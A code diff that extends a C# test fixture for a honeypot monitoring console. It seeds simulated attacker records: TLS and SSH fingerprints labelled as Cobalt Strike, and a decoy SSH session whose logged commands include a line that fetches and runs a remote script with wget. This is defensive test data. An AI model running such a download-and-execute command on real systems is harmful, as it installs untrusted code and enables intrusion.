@@ -1,18 +1,22 @@
 using System.Text.Json;
 using Microsoft.Extensions.DependencyInjection;
+using Whorl.Analysis.Identities;
+using Whorl.Analysis.Journal;
+using Whorl.Analysis.Rotations;
 using Whorl.Delivery.WebConsole.Captures;
 using Whorl.Kernel;
 using Whorl.Tests.WebConsole;
 
 namespace Whorl.LiveTests.WebConsole;
 
-/// <summary>Capture as on a working day: two interfaces, one of them away, and a few visitors.</summary>
+/// <summary>Capture as on a working day: two interfaces, one of them away, and a few visitors; one of them was asked back and changed its server.</summary>
 internal static class CapturedDay
 {
     public const string Address = "203.0.113.140";
 
-    public static void Fill(ConsoleHost host)
+    public static async Task FillAsync(ConsoleHost host)
     {
+        await RememberAsync(host);
         CaptureLive live = host.Services.GetRequiredService<CaptureLive>();
         live.AddSummaries(ConsoleHost.Batch(Made("capture.summary", 1, """
             {"capture.interfaces":[{"capture.interface":"decoys0","capture.state":"listening","capture.frames":184220,"capture.bytes":98133000,"capture.drops":12,"capture.observations":913,"capture.dropped":0,"capture.evictions":0,"capture.flows":4120},
@@ -33,6 +37,36 @@ internal static class CapturedDay
             live.Newest.Add(ConsoleHost.Batch(Made(kind, 120 - i, $"{{{ends},{facts}}}", source)));
         }
     }
+
+    private static async Task RememberAsync(ConsoleHost host)
+    {
+        DateTimeOffset now = TimeProvider.System.GetUtcNow();
+        (string Address, string Kind, string Value)[] facts =
+        [
+            (Address, "decoy", "web-1"), (Address, "decoy", "bastion"), (Address, "label", "cobalt-strike"), (Address, "tls.ja4", "t13d1516h2_8daaf6152771_02713d6af862"),
+            (Address, "tls.jarm", "07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1"), ("198.51.100.23", "decoy", "bastion"), ("198.51.100.23", "ssh.banner", "SSH-2.0-Go"),
+            ("2001:db8:4::7a1", "decoy", "web-2"), ("2001:db8:4::7a1", "http.user_agent", "Mozilla/5.0 zgrab/0.x"),
+        ];
+        await host.Services.GetRequiredService<IdentityStore>().RecordAsync([.. facts.Select((fact, i) => new AddressFact(Parse(fact.Address), fact.Kind, fact.Value, now.AddMinutes(-i)))], default);
+        RotationStore rotations = host.Services.GetRequiredService<RotationStore>();
+        foreach ((string value, int hour) in (IEnumerable<(string, int)>)[("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 60), ("b003da101c8caf37ce9e3ca3cd9d049b", 20), ("b003da101c8caf37ce9e3ca3cd9d049b", 19), ("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 5), ("5ae5e7e4d6ec1ea0bdd2ae4d5d5ee5ca", 4)])
+        {
+            await rotations.RecordAsync([new(Parse(Address), 22, "hassh", value, now.AddHours(-hour), ObservationId.New(TimeProvider.System))], default);
+        }
+
+        await rotations.RecordAsync([new(Parse(Address), 443, "jarm", facts[4].Value, now.AddHours(-4), ObservationId.New(TimeProvider.System))], default);
+        Observation[] told =
+        [
+            Made(DecoyKinds.SessionEnded, 300, $"{{\"source.ip\":\"{Address}\",\"decoy\":\"bastion\",\"service\":\"ssh\",\"session.duration_ms\":41200,\"session.attempts\":3,\"session.close\":\"client\",\"session.commands\":\"uname -a\\ncat /proc/cpuinfo | grep name\\ncd /tmp; wget http://203.0.113.66/x.sh; sh x.sh\"}}", Address),
+            Made(FindingKinds.SignatureMatched, 200, $"{{\"source.ip\":\"{Address}\",\"signature.label\":\"cobalt-strike\",\"signature.kind\":\"jarm\",\"signature.value\":\"{facts[4].Value}\",\"signature.source\":\"README of salesforce/jarm (2020)\",\"target.port\":443}}", Address),
+        ];
+        foreach (Observation one in told)
+        {
+            await host.Services.GetRequiredService<JournalStore>().WriteAsync(new(one.Kind, 1, one.Id, one.Id, CloudEvents.WriteBatch([one])), default);
+        }
+    }
+
+    private static PeerAddress Parse(string text) => PeerAddress.TryParse(text, out PeerAddress address) ? address : throw new ArgumentException(text, nameof(text));
 
     private static Observation Made(string kind, int secondsAgo, string attributes, string source = "") =>
         new(ObservationId.New(TimeProvider.System), kind, TimeProvider.System.GetUtcNow().AddSeconds(-secondsAgo), "edge1", new("ip:" + source), JsonElement.Parse(attributes));
